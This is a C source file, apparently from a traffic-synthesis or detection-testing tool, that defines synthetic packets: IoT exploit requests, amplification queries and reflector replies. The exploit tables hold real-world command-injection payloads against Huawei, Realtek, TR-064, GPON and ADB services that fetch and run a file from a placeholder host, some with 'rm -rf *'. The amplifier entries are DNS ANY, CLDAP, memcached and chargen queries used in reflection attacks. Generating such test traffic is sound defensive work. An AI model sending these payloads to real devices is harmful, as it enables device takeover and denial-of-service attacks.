/* What the sources of a cast send: exploits, amplification requests, reflectors' answers. Kept apart
 * from synth_payload.c, which default captures are made of. */
#include "capture/synth_payload.h"

#define FETCH    "wget http://192.0.2.9/m"
#define SOAP     "<s:Envelope xmlns:s=\"http://schemas.xmlsoap.org/soap/envelope/\"><s:Body>"
#define SOAP_END "</s:Body></s:Envelope>"

static const struct synth_payload exploits_udp[] = {
    SYNTH_PAYLOAD(53413, "AA\0\0AAAA netcore\0"),
    SYNTH_PAYLOAD(9034, "orf;cd /tmp; /bin/busybox " FETCH " -O m; sh m"),
};

static const struct synth_payload exploits_tcp[] = {
    SYNTH_PAYLOAD(37215,
                  "POST /ctrlt/DeviceUpgrade_1 HTTP/1.1\r\nContent-Length: 283\r\nAuthorization: "
                  "Digest username=\"dslf-config\", realm=\"HuaweiHomeGateway\"\r\n\r\n" SOAP
                  "<u:Upgrade xmlns:u=\"urn:schemas-upnp-org:service:WANPPPConnection:1\">"
                  "<NewStatusURL>$(/bin/busybox " FETCH ")</NewStatusURL><NewDownloadURL>$(echo)"
                  "</NewDownloadURL></u:Upgrade>" SOAP_END),
    SYNTH_PAYLOAD(52869,
                  "POST /picsdesc.xml HTTP/1.1\r\nContent-Length: 261\r\nSOAPAction: "
                  "urn:schemas-upnp-org:service:WANIPConnection:1#AddPortMapping\r\n\r\n" SOAP
                  "<u:AddPortMapping xmlns:u=\"urn:schemas-upnp-org:service:WANIPConnection:1\">"
                  "<NewInternalClient>`cd /tmp; " FETCH "`</NewInternalClient>"
                  "</u:AddPortMapping>" SOAP_END),
    SYNTH_PAYLOAD(7547, "POST /UD/act?1 HTTP/1.1\r\nContent-Length: 235\r\nSOAPAction: "
                        "urn:dslforum-org:service:Time:1#SetNTPServers\r\n\r\n" SOAP
                        "<u:SetNTPServers xmlns:u=\"urn:dslforum-org:service:Time:1\">"
                        "<NewNTPServer1>`cd /tmp;" FETCH "`</NewNTPServer1>"
                        "</u:SetNTPServers>" SOAP_END),
    SYNTH_PAYLOAD(60001,
                  "GET /shell?cd+/tmp;rm+-rf+*;wget+http://192.0.2.9/m;sh+/tmp/m HTTP/1.1\r\n"
                  "Host: 198.18.0.1:60001\r\nConnection: keep-alive\r\n\r\n"),
    SYNTH_PAYLOAD(80, "POST /GponForm/diag_Form?images/ HTTP/1.1\r\nHost: 198.18.0.1\r\n"
                      "Content-Length: 90\r\n\r\nXWebPageName=diag&diag_action=ping&wan_conlist=0"
                      "&dest_host=`" FETCH "`&ipv=0"),
    /* Android Debug Bridge: version 1.0.0, 4096 bytes at once, 7 bytes of text, their sum, magic */
    SYNTH_PAYLOAD(5555, "CNXN\0\0\0\1\0\x10\0\0\7\0\0\0\x32\2\0\0\xbc\xb1\xa7\xb1host::\0"),
};

static const struct synth_payload amplifiers[] = {
    /* RFC 1035, 6891: all records of a name, in up to 4096 bytes */
    SYNTH_PAYLOAD_ID(53,
                     "\x5a\xa5\1\0\0\1\0\0\0\0\0\1\7example\3com\0\0\xff\0\1"
                     "\0\0\x29\x10\0\0\0\0\0\0\0",
                     0),
    /* RFC 4511 over UDP: search of the root, all attributes */
    SYNTH_PAYLOAD(389, "\x30\x25\2\1\1\x63\x20\4\0\x0a\1\0\x0a\1\0\2\1\0\2\1\0\1\1\0"
                       "\x87\x0bobjectclass\x30\0"),
    SYNTH_PAYLOAD(11211, "\0\1\0\0\0\1\0\0stats\r\n"),
    SYNTH_PAYLOAD(19, "\r\n"),
};

static const char ntp_server[48] = "\x24\2\6\xe9"; /* RFC 5905, 7.3: version 4, server, stratum 2 */

static const struct synth_payload reflected[] = {
    SYNTH_PAYLOAD_ID(53,
                     "\x5a\xa5\x81\x80\0\1\0\1\0\0\0\0\7example\3com\0\0\1\0\1"
                     "\xc0\x0c\0\1\0\1\0\0\1\x2c\0\4\xc0\0\2\1",
                     0),
    {123, sizeof ntp_server, ntp_server, 46},
    /* UPnP Device Architecture 1.1, 1.3.3 */
    SYNTH_PAYLOAD(1900, "HTTP/1.1 200 OK\r\nCACHE-CONTROL: max-age=120\r\nST: upnp:rootdevice\r\n"
                        "USN: uuid:0::upnp:rootdevice\r\nEXT:\r\nSERVER: OS/1 UPnP/1.1 synth/1\r\n"
                        "LOCATION: http://192.0.2.1:5000/desc.xml\r\n\r\n"),
    /* RFC 4511: SearchResultEntry of the root without attributes, then SearchResultDone */
    SYNTH_PAYLOAD(389, "\x30\x09\2\1\1\x64\4\4\0\x30\0\x30\x0c\2\1\1\x65\7\x0a\1\0\4\0\4\0"),
    SYNTH_PAYLOAD(11211, "\0\1\0\0\0\1\0\0STAT pid 1\r\nSTAT uptime 7\r\nEND\r\n"),
    /* RFC 1157: GetResponse sysDescr.0, the text "x" */
    SYNTH_PAYLOAD_ID(161,
                     "\x30\x2a\2\1\0\4\6public\xa2\x1d\2\4\x12\x34\x56\x78\2\1\0\2\1\0\x30\x0f"
                     "\x30\x0d\6\x08\x2b\6\1\2\1\1\1\0\4\1x",
                     19),
    /* RFC 864: 72 characters a line, the next line begins one further on */
    SYNTH_PAYLOAD(19,
                  "!\"#$%&'()*+,-./0123456789:;<=>?@ABCDEFGHIJKLMNOPQRSTUVWXYZ[\\]^_`abcdefgh\r\n"
                  "\"#$%&'()*+,-./0123456789:;<=>?@ABCDEFGHIJKLMNOPQRSTUVWXYZ[\\]^_`abcdefghi\r\n"),
    /* RFC 8999, 6: version negotiation with ids of 8 bytes, versions 1 (RFC 9000) and 2 (RFC 9369) */
    SYNTH_PAYLOAD(443, "\xc0\0\0\0\0\x08\x11\x12\x13\x14\x15\x16\x17\x18\x08\x21\x22\x23\x24\x25"
                       "\x26\x27\x28\0\0\0\1\x6b\x33\x43\xcf"),
};

static const struct synth_payload *find(const struct synth_payload *rows, unsigned count,
                                        uint16_t port)
{
    for (unsigned i = 0; i < count; i++)
        if (rows[i].port == port)
            return &rows[i];
    return rows;
}

#define FIND(rows, port) find(rows, sizeof(rows) / sizeof((rows)[0]), port)

const struct synth_payload *synth_payload_exploit_udp(uint16_t port)
{
    return FIND(exploits_udp, port);
}

const struct synth_payload *synth_payload_exploit_tcp(uint16_t port)
{
    return FIND(exploits_tcp, port);
}

const struct synth_payload *synth_payload_amplify(uint16_t port) { return FIND(amplifiers, port); }

const struct synth_payload *synth_payload_reflected(uint16_t port) { return FIND(reflected, port); }
